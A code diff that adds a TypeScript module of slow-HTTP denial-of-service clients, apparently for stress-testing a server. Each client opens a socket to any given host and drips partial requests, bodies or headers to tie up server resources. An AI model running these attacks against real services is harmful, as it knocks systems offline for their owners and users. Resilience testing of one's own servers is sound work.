@@ -1,0 +1,24 @@
+import { connect } from 'node:net';
+import type { Attack } from './flood-options.ts';
+
+const head = 'POST /api/v1/auth HTTP/1.1\r\nhost: x\r\nuser-agent: x\r\ncontent-type: application/json\r\n';
+
+/** Sends the text, and then a byte now and then. */
+function drip(first: string, next: string): Attack {
+  return (host, port) => {
+    const socket = connect(port, host, () => socket.write(first));
+    socket.on('error', () => undefined).resume();
+    const dripping = setInterval(() => socket.writable && socket.write(next), 1_000);
+    const closed = new Promise((resolve) => socket.once('close', resolve)).finally(() => clearInterval(dripping));
+    return { closed, [Symbol.dispose]: () => void socket.destroy() };
+  };
+}
+
+/** Anonymous clients that hold as much of core as they can for as long as they can. */
+export const httpAttacks: readonly Attack[] = [
+  drip(`${head}content-length: 16384\r\n\r\n${' '.repeat(16_000)}`, ' '),
+  drip(`${head}content-length: 2000000\r\n\r\n${' '.repeat(64_000)}`, ' '.repeat(4_000)),
+  drip(`${head}transfer-encoding: chunked\r\n\r\n3e80\r\n${' '.repeat(16_000)}\r\n`, '1\r\n \r\n'),
+  drip(`GET / HTTP/1.1\r\nhost: x\r\nx: ${'x'.repeat(15_000)}`, 'x'),
+  drip('', ''),
+];
